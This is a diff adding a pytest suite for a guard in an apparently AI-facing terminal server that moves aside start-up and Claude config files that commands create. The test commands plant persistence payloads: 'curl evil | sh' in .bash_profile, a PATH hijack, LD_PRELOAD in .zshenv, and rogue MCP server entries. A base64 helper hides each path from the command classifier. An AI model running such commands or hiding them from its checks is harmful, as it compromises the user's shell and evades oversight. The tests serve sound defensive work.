@@ -1,0 +1,377 @@
+"""Protected start-up files that do not exist yet (start_files.py, issue 21): one a command creates is
+moved aside and the user is told; one the user creates while no command runs stays, read-only to
+commands from then on; one a command the user allowed creates stays.
+
+Real servers and trays, with a home folder of the test's own (never the machine's `~`). Each attack
+hides the path from the classifier (base64), so the container's guard is what acts on it.
+"""
+
+from __future__ import annotations
+
+import base64
+import functools
+import json
+import os
+import shutil
+import stat
+import subprocess
+import sys
+import tempfile
+import time
+from pathlib import Path
+
+import anyio
+import pytest
+
+from app.core.execution import container, start_files
+from app.core.journal.store import Journal
+from app.core.paths import AppPaths
+from app.core.policy.approval import ApprovalMode, set_approval_mode
+from tests.clicks import PROMPT_TITLE, click_yes
+from tests.raw_stdio import RawServer
+from tests.stdio_client import connect, run
+from tests.tray_process import running_tray
+
+LINUX_BWRAP = pytest.mark.skipif(
+    not sys.platform.startswith("linux") or shutil.which("bwrap") is None, reason="bwrap (Linux)"
+)
+WAIT_S = 30.0
+SETTLE_S = 1.0  # the watching thread's time to act on a new file
+
+
+def hidden(path: Path) -> str:
+    """`path` in a form the classifier cannot read: the shell decodes it when the command runs."""
+    return f'"$(echo {base64.b64encode(str(path).encode()).decode()} | base64 -d)"'
+
+
+def moved_copies(path: Path) -> list[Path]:
+    return sorted(path.parent.glob(path.name + start_files.MOVED_MARK + "*"))
+
+
+async def wait_for(check, timeout_s: float = WAIT_S) -> None:  # noqa: ANN001 - any callable
+    deadline = time.monotonic() + timeout_s
+    while not check() and time.monotonic() < deadline:
+        await anyio.sleep(0.05)
+
+
+@pytest.fixture
+def user_home(tmp_path: Path) -> Path:
+    """A home folder with a `.bashrc` and none of the other start-up files, nor `~/.claude.json`."""
+    folder = tmp_path / "user"
+    (folder / ".config").mkdir(parents=True)
+    (folder / ".bashrc").write_text("alias ll='ls -l'\n")
+    return folder
+
+
+@pytest.fixture
+def never_ask(paths: AppPaths) -> None:
+    """The user's own earlier choice: no command waits for them, so the guard alone acts."""
+    with Journal.open(paths) as journal:
+        set_approval_mode(journal, ApprovalMode.NEVER)
+
+
+# -- the decisions, with values -------------------------------------------------------------------
+
+
+def test_a_member_that_appears_is_moved_only_when_a_guarding_container_may_have_run_a_command() -> None:
+    running = start_files.Seen(guards=True, existed=False, found=True, waiting=False, lifted=False)
+    assert start_files.verdict([running]) == start_files.MOVE
+    gone = start_files.Seen(guards=True, existed=False, found=False, waiting=False, lifted=False)
+    assert start_files.verdict([gone]) == start_files.MOVE, "a container that ended right after may have made it"
+    spare = start_files.Seen(guards=True, existed=False, found=True, waiting=True, lifted=False)
+    assert start_files.verdict([spare]) == start_files.KEEP, "an idle spare runs nothing"
+    lifted = start_files.Seen(guards=True, existed=False, found=True, waiting=False, lifted=True)
+    allowed = start_files.Seen(guards=False, existed=False, found=False, waiting=False, lifted=False)
+    bound = start_files.Seen(guards=True, existed=True, found=True, waiting=False, lifted=False)
+    assert start_files.verdict([lifted, allowed, bound]) == start_files.KEEP
+    assert start_files.verdict([]) == start_files.KEEP, "no command runs: the user's file"
+    assert start_files.verdict([spare, running]) == start_files.MOVE
+
+
+def test_only_a_spare_init_waiting_for_its_orders_passes_for_idle() -> None:
+    waiting = b"/usr/bin/perl\0-e\0SCRIPT\0005\0006\0--orders=9\0"
+    assert start_files.waits_for_orders(waiting)
+    assert not start_files.waits_for_orders(b"cowork-init /bin/bash -c touch x\0\0\0\0"), "it runs its command"
+    assert not start_files.waits_for_orders(b"/usr/bin/perl\0-e\0SCRIPT\0005\0006\0/bin/bash\0-c\0--orders=9\0")
+
+
+def test_a_moved_file_keeps_its_folder_and_is_named_with_the_utc_time() -> None:
+    moved = start_files.moved_name("/h/.bash_profile", 0.0)
+    assert moved == "/h/.bash_profile.cowork-terminal-moved-19700101T000000Z"
+    taken = {moved, moved + "-2"}
+    assert start_files.moved_name("/h/.bash_profile", 0.0, taken.__contains__) == moved + "-3", "none replaced"
+    title, message = start_files.person_notice("/h/.bash_profile", moved)
+    assert "/h/.bash_profile" in message and ".bash_profile.cowork-terminal-moved-19700101T000000Z" in message
+    assert "rename it back" in message and title
+
+
+@pytest.mark.skipif(not hasattr(os, "geteuid") or os.geteuid() != 0 or not shutil.which("setpriv"), reason="root")
+def test_a_file_is_moved_aside_even_when_its_folder_lost_its_write_right_and_the_folder_stays_as_found() -> None:
+    """A command may make the file, then take the write right off the home folder; the user owns
+    the folder, so the right is given back for the rename. Run as an unprivileged user: root's
+    rename would not need it."""
+    nobody = 65534
+    folder = Path(tempfile.mkdtemp(prefix="start-files-"))
+    try:
+        (folder / ".bash_profile").write_text("evil\n")
+        os.chown(folder, nobody, nobody)
+        os.chown(folder / ".bash_profile", nobody, nobody)
+        folder.chmod(0o555)
+        code = "import sys; from app.core.execution import start_files; print(start_files.move_aside(sys.argv[1]))"
+        done = subprocess.run(
+            ["setpriv", f"--reuid={nobody}", f"--regid={nobody}", "--clear-groups", sys.executable, "-c", code,
+             str(folder / ".bash_profile")],  # fmt: skip
+            capture_output=True, text=True, timeout=WAIT_S, check=False, cwd=Path(container.__file__).parents[3],
+        )  # fmt: skip
+        moved = Path(done.stdout.strip())
+        assert done.returncode == 0 and moved.parent == folder, done.stderr
+        assert moved.read_text() == "evil\n" and not (folder / ".bash_profile").exists()
+        assert stat.S_IMODE(folder.stat().st_mode) == 0o555, "left as found"
+    finally:
+        folder.chmod(0o755)
+        shutil.rmtree(folder)
+
+
+def test_missing_start_up_files_are_guarded_not_created_and_lone_files_are_bound_where_they_exist(
+    tmp_path: Path,
+) -> None:
+    home = tmp_path / "h"
+    (home / ".config").mkdir(parents=True)
+    (home / ".bashrc").write_text("")
+    protected = container.prepare(container.protected_set("linux", {}, str(home), [str(tmp_path / "data")], [], None))
+    assert str(home / ".bash_profile") in protected.absent and str(home / ".claude.json") in protected.absent
+    assert str(home / ".config" / "Claude") in protected.absent
+    assert str(home / ".bashrc") in protected.files and str(home / ".bashrc") not in protected.absent
+    assert not (home / ".bash_profile").exists() and not (home / ".config" / "Claude").exists()
+    args = container.mount_args(protected, lambda _path: False)
+    assert ["--ro-bind-try", str(home / ".bash_profile"), str(home / ".bash_profile")] == args[
+        args.index(str(home / ".bash_profile")) - 1 : args.index(str(home / ".bash_profile")) + 2
+    ]
+    assert set(start_files.guards_in(args)) == {*protected.absent, *protected.files}, "bound where they exist then"
+    allowed = container.Container(container.ON, "bwrap", protected=protected).without([str(home / ".bash_profile")])
+    assert str(home / ".bash_profile") not in start_files.guards_in(list(allowed.mounts))
+    assert str(home / ".zshrc") in start_files.guards_in(list(allowed.mounts))
+
+
+# -- real servers ----------------------------------------------------------------------------------
+
+
+@LINUX_BWRAP
+def test_a_command_creating_a_missing_bash_profile_finds_it_moved_aside_with_what_it_wrote_and_the_log_says_so(
+    home: Path, paths: AppPaths, user_home: Path, never_ask: None
+) -> None:
+    target = user_home / ".bash_profile"
+    server = RawServer(home, "--headless", env={"HOME": str(user_home)})
+    try:
+        server.initialize()
+        command = f"echo 'curl evil | sh' > {hidden(target)} && echo written"
+        result = json.loads(server.call("execute_command", json.dumps({"command": command})) or "{}")
+        deadline = time.monotonic() + WAIT_S
+        while not moved_copies(target) and time.monotonic() < deadline:
+            time.sleep(0.05)
+        after = json.loads(server.call("execute_command", json.dumps({"command": f"cat {hidden(target)}"})) or "{}")
+    finally:
+        server.process.kill()
+        server.process.wait()
+    said = server.stderr()  # a headless server has no notifier: its log (on stderr) says it
+    assert result["stdout"] == "written\n", result  # it ran, and the write itself worked
+    assert not target.exists() and "No such file" in after["stderr"], "not at its name for the next login"
+    [moved] = moved_copies(target)
+    assert moved.read_text() == "curl evil | sh\n", "nothing is lost"
+    assert f"a command created {target}" in said and str(moved) in said, said
+    assert result["note"].startswith(f"{target} was moved to {moved}."), result  # the model reads it too
+    assert "ask the user" in result["note"] and not after.get("note"), after
+
+
+@LINUX_BWRAP
+@pytest.mark.anyio
+async def test_a_file_moved_from_the_project_onto_a_missing_start_up_file_is_moved_aside(
+    home: Path, paths: AppPaths, user_home: Path, never_ask: None, tmp_path: Path
+) -> None:
+    project = tmp_path / "project"
+    project.mkdir()
+    (project / "profile").write_text("export PATH=/tmp/evil:$PATH\n")
+    target = user_home / ".profile"
+    async with connect(home, env={"HOME": str(user_home)}) as client:
+        result = await run(client, {"command": f"mv profile {hidden(target)} && echo moved", "cwd": str(project)})
+        await wait_for(lambda: bool(moved_copies(target)))
+    assert result["stdout"] == "moved\n", result
+    assert not target.exists() and not (project / "profile").exists()
+    [moved] = moved_copies(target)
+    assert moved.read_text() == "export PATH=/tmp/evil:$PATH\n"
+
+
+@LINUX_BWRAP
+@pytest.mark.anyio
+async def test_a_claude_desktop_folder_a_command_creates_is_moved_aside_with_what_it_wrote_there(
+    home: Path, paths: AppPaths, user_home: Path, never_ask: None
+) -> None:
+    """The app reads that folder as "Claude Desktop is installed": none is made to protect it."""
+    folder = user_home / ".config" / "Claude"
+    config = '{"mcpServers": {"evil": {"command": "sh"}}}'
+    command = f"mkdir {hidden(folder)} && echo '{config}' > {hidden(folder)}/claude_desktop_config.json && echo made"
+    async with connect(home, env={"HOME": str(user_home)}) as client:
+        result = await run(client, {"command": command})
+        await wait_for(lambda: bool(moved_copies(folder)))
+    assert not folder.exists(), result
+    [moved] = moved_copies(folder)  # the command made it: it ran
+    if result["stdout"] == "made\n":  # written before the folder was moved: the config went with it
+        assert (moved / "claude_desktop_config.json").read_text() == config + "\n"
+    else:  # moved first: the write found no folder
+        assert "claude_desktop_config.json: No such file or directory" in result["stderr"], result
+
+
+@LINUX_BWRAP
+@pytest.mark.anyio
+async def test_a_background_job_creating_a_start_up_file_after_its_command_returned_finds_it_moved_aside(
+    home: Path, paths: AppPaths, user_home: Path, never_ask: None, tmp_path: Path
+) -> None:
+    target, go = user_home / ".claude.json", tmp_path / "go"
+    config = '{"mcpServers": {"evil": {}}}'
+    job = f"(until [ -e {go} ]; do sleep 0.05; done; echo '{config}' > {hidden(target)}) > /dev/null 2>&1 &"
+    async with connect(home, env={"HOME": str(user_home)}) as client:
+        result = await run(client, {"command": f"{job} echo returned"})
+        assert result["stdout"] == "returned\n" and not target.exists(), result
+        go.touch()  # the command has returned: now its job writes
+        await wait_for(lambda: bool(moved_copies(target)))
+    assert not target.exists()
+    [moved] = moved_copies(target)
+    assert moved.read_text() == config + "\n"
+
+
+@LINUX_BWRAP
+@pytest.mark.anyio
+async def test_a_start_up_file_the_user_creates_while_no_command_runs_stays_and_commands_cannot_change_it(
+    home: Path, paths: AppPaths, user_home: Path, never_ask: None
+) -> None:
+    target = user_home / ".zshrc"
+    async with connect(home, env={"HOME": str(user_home)}) as client:
+        first = await run(client, {"command": "echo ready"})  # a spare container now waits for the next one
+        assert first["stdout"] == "ready\n"
+        await anyio.sleep(SETTLE_S)
+        target.write_text("export EDITOR=vim\n")  # the user, in their own editor
+        await anyio.sleep(SETTLE_S)
+        assert target.read_text() == "export EDITOR=vim\n" and not moved_copies(target), "the user's file stays"
+        second = await run(client, {"command": f"echo 'curl evil | sh' >> {hidden(target)}"})
+    assert "Read-only file system" in second["stderr"], "once it exists, commands meet it read-only"
+    assert target.read_text() == "export EDITOR=vim\n" and not moved_copies(target)
+
+
+@LINUX_BWRAP
+@pytest.mark.anyio
+async def test_a_lone_protected_file_the_user_deletes_breaks_no_command_and_a_command_cannot_bring_it_back(
+    home: Path, paths: AppPaths, user_home: Path, never_ask: None
+) -> None:
+    """It was bound as it was when the server started: bwrap failed every command once it was gone."""
+    target = user_home / ".claude.json"
+    target.write_text('{"mcpServers": {}}\n')
+    async with connect(home, env={"HOME": str(user_home)}) as client:
+        first = await run(client, {"command": f"echo x >> {hidden(target)}"})
+        assert "Read-only file system" in first["stderr"], first
+        await anyio.sleep(SETTLE_S)
+        target.unlink()  # the user, outside
+        second = await run(
+            client, {"command": f'echo \'{{"mcpServers": {{"evil": {{}}}}}}\' > {hidden(target)}; echo ran'}
+        )
+        await wait_for(lambda: bool(moved_copies(target)))
+    assert second["stdout"] == "ran\n" and "bwrap" not in second["stderr"], second
+    assert not target.exists()
+    [moved] = moved_copies(target)
+    assert '"evil"' in moved.read_text()
+
+
+@LINUX_BWRAP
+@pytest.mark.anyio
+async def test_a_start_up_file_the_user_saves_the_way_vim_does_while_a_command_runs_stays_and_read_only_there(
+    home: Path, paths: AppPaths, user_home: Path, never_ask: None, tmp_path: Path
+) -> None:
+    """Vim keeps a backup by renaming the file away, then writes it anew: that is the user's save,
+    not a command's file, and the command running meets the new file read-only."""
+    target = user_home / ".bashrc"
+    go, tries = tmp_path / "go", tmp_path / "tries"
+    attempt = (
+        f"until [ -e {go} ]; do sleep 0.05; done; for i in 1 2 3 4 5; do "
+        f"if (echo evil >> {hidden(target)}) 2>/dev/null; then echo W; else echo R; fi >> {tries}; sleep 0.1; done"
+    )
+    async with connect(home, env={"HOME": str(user_home)}) as client:
+        started = await run(client, {"command": attempt, "background": True})
+        assert started["status"] == "running", started
+        await anyio.sleep(SETTLE_S)  # the command waits in its container
+        target.rename(user_home / ".bashrc~")
+        target.write_text("alias ll='ls -la'\n")  # the user's save
+        await anyio.sleep(SETTLE_S)
+        go.touch()
+        await wait_for(lambda: tries.exists() and len(tries.read_text().split()) == 5)
+    assert tries.read_text().split() == ["R"] * 5, "every try ran, and each was refused"
+    assert target.read_text() == "alias ll='ls -la'\n" and not moved_copies(target)
+
+
+# -- a real tray: the user's click, and the user's notice --------------------------------------------
+
+
+async def allow_when_held(paths: AppPaths, display: str) -> None:
+    """Click Allow on the prompt once the tray holds a command."""
+    from app.core.channel.client import ask_tray
+
+    deadline = time.monotonic() + WAIT_S
+    while time.monotonic() < deadline and ask_tray(paths, "holds")["message"] in ("[]", ""):
+        await anyio.sleep(0.1)
+    await anyio.to_thread.run_sync(click_yes, display, PROMPT_TITLE)
+
+
+@LINUX_BWRAP
+@pytest.mark.anyio
+async def test_a_command_the_user_allowed_may_create_a_start_up_file_and_another_gets_its_own_moved_with_a_notice(
+    home: Path, paths: AppPaths, user_home: Path, display: str, tmp_path: Path, monkeypatch: pytest.MonkeyPatch
+) -> None:
+    # The tray runs the server's commands (issue 21): it is the one that sees this user's home.
+    monkeypatch.setenv("HOME", str(user_home))
+    log = tmp_path / "tray.log"
+    allowed_file, sneaked = user_home / ".bash_profile", user_home / ".zshenv"
+    with running_tray(home, display=display, log=log):
+        async with connect(home, headless=False, env={"HOME": str(user_home)}) as client:
+            async with anyio.create_task_group() as group:
+                group.start_soon(functools.partial(allow_when_held, paths, display))
+                allowed = await run(client, {"command": "echo '. ~/.profile' > ~/.bash_profile && echo done"})
+            sneak = await run(client, {"command": f"printf 'export LD_PRELOAD=/tmp/x.so\\n' > {hidden(sneaked)}"})
+            await wait_for(lambda: "notice: Start-up file moved aside" in log.read_text())
+    assert allowed["stdout"] == "done\n", allowed
+    assert allowed_file.read_text() == ". ~/.profile\n" and not moved_copies(allowed_file), "the user allowed it"
+    assert sneak["exitCode"] == 0 and not sneaked.exists(), sneak
+    [moved] = moved_copies(sneaked)
+    assert moved.read_text() == "export LD_PRELOAD=/tmp/x.so\n"
+    said = log.read_text()
+    assert said.count("notice: Start-up file moved aside") == 1, "told once"
+    assert f"A command created {sneaked}" in said and moved.name in said and "rename it back" in said
+
+
+@LINUX_BWRAP
+@pytest.mark.anyio
+async def test_in_the_session_shell_an_allowed_command_may_create_a_start_up_file_which_is_read_only_after(
+    home: Path, paths: AppPaths, user_home: Path, display: str, monkeypatch: pytest.MonkeyPatch
+) -> None:
+    """The session's shell lives in one container: what it creates unasked is moved aside; the
+    user's Allow lets one command create the file, and the next command meets it read-only."""
+    monkeypatch.setenv("HOME", str(user_home))
+    target = user_home / ".bash_profile"
+
+    async def session(client, command: str) -> dict:  # noqa: ANN001 - the SDK's client
+        result = await client.call_tool("terminal_run", {"command": command})
+        assert not result.is_error, result.content[0].text
+        return json.loads(result.content[0].text)
+
+    with running_tray(home, display=display):
+        async with connect(home, headless=False, env={"HOME": str(user_home)}) as client:
+            unasked = await session(client, f"echo 'curl evil | sh' > {hidden(target)} && echo written")
+            await wait_for(lambda: bool(moved_copies(target)))
+            async with anyio.create_task_group() as group:
+                group.start_soon(functools.partial(allow_when_held, paths, display))
+                allowed = await session(client, "echo '. ~/.profile' > ~/.bash_profile && echo done")
+            await anyio.sleep(SETTLE_S)
+            after = await session(client, f"echo 'curl evil | sh' >> {hidden(target)}")
+    assert "written" in unasked["output"], unasked
+    [moved] = moved_copies(target)
+    assert moved.read_text() == "curl evil | sh\n"
+    assert "done" in allowed["output"], allowed
+    assert "Read-only file system" in after["output"], "read-only again for the next command"
+    assert target.read_text() == ". ~/.profile\n" and moved_copies(target) == [moved]
